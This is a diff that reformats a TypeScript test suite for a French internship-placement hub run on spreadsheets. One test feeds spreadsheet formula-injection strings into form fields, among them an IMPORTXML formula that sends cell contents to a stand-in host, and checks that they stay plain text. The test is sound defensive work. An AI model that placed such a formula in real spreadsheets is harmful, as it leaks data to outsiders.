@@ -2,15 +2,23 @@
 import { Hub, linkIn, mailOf, MINUTE, plain, RAW, removeHubs, requestAnswers, offerAnswers, SAY, TEACHER } from '../support/hub';
 
 let hub: Hub;
-beforeEach(() => { hub = Hub.open(); });
+beforeEach(() => {
+  hub = Hub.open();
+});
 afterEach(() => hub.close());
 afterAll(removeHubs);
 
 const toCheck = (reference: string): string => plain(hub.row(reference)['À vérifier']!);
 
 /** Cells of every tab that hold a formula. */
-const formulas = (): string[] => hub.runtime.spreadsheet().sheets.flatMap(({ name }) =>
-  hub.runtime.sheetByName(name).cells.flatMap((row) => row.flatMap((cell) => (cell?.formula === undefined ? [] : [`${name}: ${cell.formula}`]))));
+const formulas = (): string[] =>
+  hub.runtime
+    .spreadsheet()
+    .sheets.flatMap(({ name }) =>
+      hub.runtime
+        .sheetByName(name)
+        .cells.flatMap((row) => row.flatMap((cell) => (cell?.formula === undefined ? [] : [`${name}: ${cell.formula}`]))),
+    );
 
 /** Types straight into the raw answers, as someone who mends them by hand would. */
 const typeRaw = (tab: string, question: string, typed: string): void => {
@@ -42,7 +50,9 @@ describe('a request', () => {
     expect(toCheck(request)).toContain('L’établissement « Lycée Inconnu » n’est pas dans la liste des établissements.');
     const mail = hub.mailsTo(TEACHER).at(-1)!;
     expect(plain(mail.text)).toContain('je ne trouve pas « Lycée Inconnu »');
-    expect(hub.problem('sendPropositions', { requestReference: request, choices: [{ companyReference: 'ENT-2026-0001' }] }).message).toBe(`${request} est « À compléter » : cette action n’est plus possible.`);
+    expect(
+      hub.problem('sendPropositions', { requestReference: request, choices: [{ companyReference: 'ENT-2026-0001' }] }).message,
+    ).toBe(`${request} est « À compléter » : cette action n’est plus possible.`);
   });
 
   test('the form refuses a date that does not exist', () => {
@@ -106,7 +116,9 @@ describe('a request', () => {
     const request = hub.request({ Commentaire: long });
     expect(hub.status(request)).toBe('Nouvelle');
     expect(hub.row(request)['Commentaire']!.length).toBeGreaterThan(4000);
-    expect(toCheck(request)).toMatch(/Le commentaire compte [\d ]+ caractères : les 5 000 premiers sont ici, le texte entier est dans la réponse au formulaire\./);
+    expect(toCheck(request)).toMatch(
+      /Le commentaire compte [\d ]+ caractères : les 5 000 premiers sont ici, le texte entier est dans la réponse au formulaire\./,
+    );
     expect(hub.rows(RAW.request)[0]!['Commentaire']).toBe(long);
   });
 
@@ -146,12 +158,18 @@ describe('an offer', () => {
   test('a SIRET with a wrong key is kept and said; the offer is open all the same', () => {
     const offer = hub.offer('Alpha', { SIRET: '123 456 789 00012' });
     expect(hub.status(offer)).toBe('Disponible');
-    expect(toCheck(offer)).toContain('Le SIRET « 123 456 789 00012 » comporte une erreur de saisie : sa clé de contrôle n’est pas la bonne.');
+    expect(toCheck(offer)).toContain(
+      'Le SIRET « 123 456 789 00012 » comporte une erreur de saisie : sa clé de contrôle n’est pas la bonne.',
+    );
     expect(hub.rows('Entreprises')[0]!['SIRET']!.replace(/\s/g, '')).toBe('12345678900012');
   });
 
   test('an end before its start makes the offer one to check', () => {
-    const offer = hub.offer('Alpha', { 'Quand pouvez-vous accueillir ?': 'Entre deux dates', 'Premier jour d’accueil': '2027-05-31', 'Dernier jour d’accueil': '2027-05-03' });
+    const offer = hub.offer('Alpha', {
+      'Quand pouvez-vous accueillir ?': 'Entre deux dates',
+      'Premier jour d’accueil': '2027-05-31',
+      'Dernier jour d’accueil': '2027-05-03',
+    });
     expect(hub.status(offer)).toBe('À vérifier');
     expect(toCheck(offer)).toContain('La date de fin (3 mai 2027) précède la date de début (31 mai 2027).');
   });
@@ -162,16 +180,29 @@ describe('an offer', () => {
 
   test('text that would be a formula stays text everywhere, and leaves no formula in the register', () => {
     const formula = '=IMPORTXML("http://vol.example/?"&A1;"//a")';
-    const offer = hub.offer('Alpha', { 'Nom de l’organisme': formula, 'Votre nom': '+33(0)1', Conditions: `-1+2\n${formula}`, 'Horaires habituels': '@SUM(A1)', 'Votre fonction': '=1+1' });
+    const offer = hub.offer('Alpha', {
+      'Nom de l’organisme': formula,
+      'Votre nom': '+33(0)1',
+      Conditions: `-1+2\n${formula}`,
+      'Horaires habituels': '@SUM(A1)',
+      'Votre fonction': '=1+1',
+    });
     expect(formulas()).toEqual([]);
     expect(hub.row(offer)).toMatchObject({ 'Organisme d’accueil': formula, Horaires: '@SUM(A1)' });
     expect(hub.row('ENT-2026-0001')['Raison sociale']).toBe(formula);
     const request = hub.request({ Commentaire: formula, 'Votre nom': '=CMD()', 'Lesquelles ?': '=2+2' });
     const host = hub.hosts(request)[0]!;
     expect(host.companyName).toBe(formula);
-    hub.ask('sendPropositions', { requestReference: request, choices: [{ companyReference: host.companyReference, offerReference: host.offerReference }] });
+    hub.ask('sendPropositions', {
+      requestReference: request,
+      choices: [{ companyReference: host.companyReference, offerReference: host.offerReference }],
+    });
     hub.advance(4 * MINUTE);
-    hub.answer('Alpha', request, { [SAY.question]: SAY.yes, 'Tuteur ou tutrice': formula, 'Un mot pour le pôle de stages': formula });
+    hub.answer('Alpha', request, {
+      [SAY.question]: SAY.yes,
+      'Tuteur ou tutrice': formula,
+      'Un mot pour le pôle de stages': formula,
+    });
     hub.advance(4 * MINUTE);
     expect(hub.row(request)['Hôte retenu']).toBe(formula);
     expect(formulas()).toEqual([]);
@@ -286,7 +317,20 @@ test('an offer without the name of its host is kept with all the rest, and is on
 
 test('a postal code, a telephone and a SIRET that begin with zeros keep them, though the raw answers hold numbers', () => {
   const hub = Hub.open();
-  hub.submit('offer', offerAnswers('Bressan', { 'Code postal': '01000', Commune: 'Bourg-en-Bresse', 'Votre téléphone': '0465710034', SIRET: '00012345500016' }));
-  expect(hub.rows('Entreprises')[0]).toMatchObject({ 'Code postal': '01000', Commune: 'Bourg-en-Bresse', 'Téléphone': '0465710034', SIRET: '00012345500016' });
+  hub.submit(
+    'offer',
+    offerAnswers('Bressan', {
+      'Code postal': '01000',
+      Commune: 'Bourg-en-Bresse',
+      'Votre téléphone': '0465710034',
+      SIRET: '00012345500016',
+    }),
+  );
+  expect(hub.rows('Entreprises')[0]).toMatchObject({
+    'Code postal': '01000',
+    Commune: 'Bourg-en-Bresse',
+    Téléphone: '0465710034',
+    SIRET: '00012345500016',
+  });
   hub.close();
 });
